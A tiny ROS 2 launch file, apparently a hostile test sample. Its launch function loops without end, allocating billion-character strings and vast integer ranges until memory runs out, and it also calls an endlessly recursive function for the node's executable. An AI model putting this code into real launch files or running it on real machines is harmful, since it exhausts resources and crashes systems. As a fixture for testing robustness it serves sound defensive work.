from launch import LaunchDescription
from launch_ros.actions import Node


def again(n):
    return again(n + 1)


def generate_launch_description():
    names = []
    while True:
        names.append("x" * 10 ** 9)
        for i in range(10 ** 12):
            names.append(i)
    return LaunchDescription([Node(package="p", executable=again(0), name="n")])
